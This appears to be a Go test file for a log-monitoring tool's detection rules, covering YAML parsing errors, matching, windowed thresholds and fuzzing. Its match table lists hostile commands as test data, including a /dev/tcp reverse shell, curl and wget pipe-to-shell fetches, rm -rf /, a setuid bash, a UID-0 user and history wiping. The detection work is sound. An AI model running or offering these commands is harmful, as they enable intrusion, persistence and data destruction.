package rules

import (
	"strings"
	"testing"
	"time"

	"google.golang.org/protobuf/types/known/timestamppb"

	"github.com/logwarden/logwarden/pkg/logwardenpb"
)

func TestDefaultRulesLoad(t *testing.T) {
	set, err := Load("")
	if err != nil {
		t.Fatal(err)
	}
	if len(set.Rules) < 6 {
		t.Fatalf("default rules: %d, want ≥ 6", len(set.Rules))
	}
}

func TestParseErrors(t *testing.T) {
	tests := []struct {
		name, doc, want string
	}{
		{"unknown top key", "rulez: []\n", "r.yaml:1: unknown key \"rulez\""},
		{"unknown rule key", "rules:\n  - id: a\n    title: A\n    severity: low\n    colour: red\n    when: {action: login}\n", "r.yaml:5: unknown key \"colour\""},
		{"bad severity", "rules:\n  - id: a\n    title: A\n    severity: huge\n    when: {action: login}\n", "r.yaml:4: severity \"huge\""},
		{"bad regex", "rules:\n  - id: a\n    title: A\n    severity: low\n    when:\n      raw: {regex: '('}\n", "r.yaml:6: regex \"(\""},
		{"unknown field", "rules:\n  - id: a\n    title: A\n    severity: low\n    when:\n      colour: red\n", "r.yaml:6: unknown field \"colour\""},
		{"unknown operator", "rules:\n  - id: a\n    title: A\n    severity: low\n    when:\n      raw: {like: x}\n", "r.yaml:6: unknown operator \"like\""},
		{"duplicate id", "rules:\n  - id: a\n    title: A\n    severity: low\n    when: {action: x}\n  - id: a\n    title: A\n    severity: low\n    when: {action: x}\n", "r.yaml:6: duplicate rule id \"a\""},
		{"bad window", "rules:\n  - id: a\n    title: A\n    severity: low\n    when: {action: x}\n    threshold: {count: 3, within: soon}\n", "r.yaml:6: within \"soon\""},
		{"missing title", "rules:\n  - id: a\n    severity: low\n    when: {action: x}\n", "r.yaml:2: rule a: title is required"},
		{"yaml syntax", "rules:\n  - id: [\n", "r.yaml:"},
		{"empty", "", "r.yaml:1: empty rule file"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := Parse("r.yaml", []byte(tt.doc))
			if err == nil || !strings.HasPrefix(err.Error(), tt.want) {
				t.Fatalf("error %v, want prefix %q", err, tt.want)
			}
		})
	}
}

func ev(action, target, user, ip string) *logwardenpb.LogEvent {
	return &logwardenpb.LogEvent{Action: action, Target: target, User: user, Ip: ip, Raw: user + " " + action + " " + target}
}

func rule(t *testing.T, set *Set, id string) *Rule {
	for _, r := range set.Rules {
		if r.ID == id {
			return r
		}
	}
	t.Fatalf("no rule %s", id)
	return nil
}

func TestDefaultRulesMatch(t *testing.T) {
	set, err := Load("")
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		rule  string
		ev    *logwardenpb.LogEvent
		match bool
	}{
		{"sensitive-file", ev("file_access", "/etc/shadow", "u", ""), true},
		{"sensitive-file", ev("file_access", "/home/bob/.ssh/id_ed25519", "u", ""), true},
		{"sensitive-file", ev("file_access", "/srv/app/.env", "u", ""), true},
		{"sensitive-file", ev("file_access", "/opt/certs/prod-tls.pem", "u", ""), true},
		{"sensitive-file", ev("file_access", "/home/bob/docs/shadow.txt", "u", ""), false},
		{"sensitive-file", ev("dir_access", "/etc/shadow", "u", ""), false},
		{"dangerous-command", ev("command", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", "u", ""), true},
		{"dangerous-command", ev("command", "curl -fsSL http://1.2.3.4/install.sh | sh", "u", ""), true},
		{"dangerous-command", ev("command", "wget -qO- http://1.2.3.4:80/x.sh | bash", "u", ""), true},
		{"dangerous-command", ev("command", "rm -rf /", "u", ""), true},
		{"dangerous-command", ev("command", "rm -rf --no-preserve-root /", "u", ""), true},
		{"dangerous-command", ev("command", "chmod u+s /bin/bash", "u", ""), true},
		{"dangerous-command", ev("command", "iptables -F", "u", ""), true},
		{"dangerous-command", ev("command", "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash x", "u", ""), true},
		{"dangerous-command", ev("command", "curl -s https://api.internal.example/health", "u", ""), false},
		{"dangerous-command", ev("command", "wget https://releases.example.com/tool.tar.gz", "u", ""), false},
		{"dangerous-command", ev("command", "history | tail", "u", ""), false},
		{"dangerous-command", ev("command", "rm -rf ./build", "u", ""), false},
		{"dangerous-command", ev("command", "sudo systemctl restart nginx", "u", ""), false},
		{"history-tampering", ev("command", "history -c", "u", ""), true},
		{"history-tampering", ev("command", "export HISTFILE=/dev/null", "u", ""), true},
		{"history-tampering", ev("command", "history | tail", "u", ""), false},
	}
	for _, tt := range tests {
		if got := rule(t, set, tt.rule).Match(tt.ev, ""); got != tt.match {
			t.Errorf("%s on %q: %v, want %v", tt.rule, tt.ev.Target, got, tt.match)
		}
	}
}

func TestWindowsThresholdDistinct(t *testing.T) {
	set, err := Load("")
	if err != nil {
		t.Fatal(err)
	}
	r := rule(t, set, "sensitive-file-burst")
	w := NewWindows(10)
	t0 := time.Date(2026, 1, 5, 10, 0, 0, 0, time.UTC)
	steps := []struct {
		at     time.Duration
		target string
		fired  bool
		count  int
	}{
		{0, "/etc/shadow", false, 1},
		{10 * time.Second, "/etc/shadow", false, 1}, // same target: not distinct
		{20 * time.Second, "/etc/sudoers", false, 2},
		{30 * time.Second, "/root/.ssh/id_rsa", true, 3},
		{5 * time.Minute, "/etc/gshadow", false, 1}, // the window slid past the others
	}
	for i, s := range steps {
		e := ev("file_access", s.target, "bob", "")
		e.Time = timestamppb.New(t0.Add(s.at))
		h := w.Observe(r, "bob", t0.Add(s.at), s.target, e)
		if h.Fired != s.fired || h.Count != s.count {
			t.Errorf("step %d: fired %v count %d, want %v %d", i, h.Fired, h.Count, s.fired, s.count)
		}
	}
	// reload keeps windows of rules whose id is unchanged, drops the others
	w.Keep(&Set{Rules: []*Rule{r}})
	if len(w.byRule) != 1 {
		t.Fatalf("windows after Keep: %d", len(w.byRule))
	}
	w.Keep(&Set{})
	if len(w.byRule) != 0 {
		t.Fatalf("windows after Keep(empty): %d", len(w.byRule))
	}
}

func FuzzParse(f *testing.F) {
	f.Add(Default())
	f.Add([]byte("rules:\n  - id: a\n    title: A\n    severity: low\n    when: {raw: {regex: 'x+'}}\n    threshold: {count: 2, within: 1m}\n"))
	f.Add([]byte("rules: &a [*a]\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		set, err := Parse("f.yaml", data)
		if err != nil {
			if !strings.HasPrefix(err.Error(), "f.yaml:") {
				t.Fatalf("error without file:line: %v", err)
			}
			return
		}
		e := ev("file_access", "/etc/shadow", "u", "1.2.3.4")
		for _, r := range set.Rules {
			r.Match(e, "t")
		}
	})
}
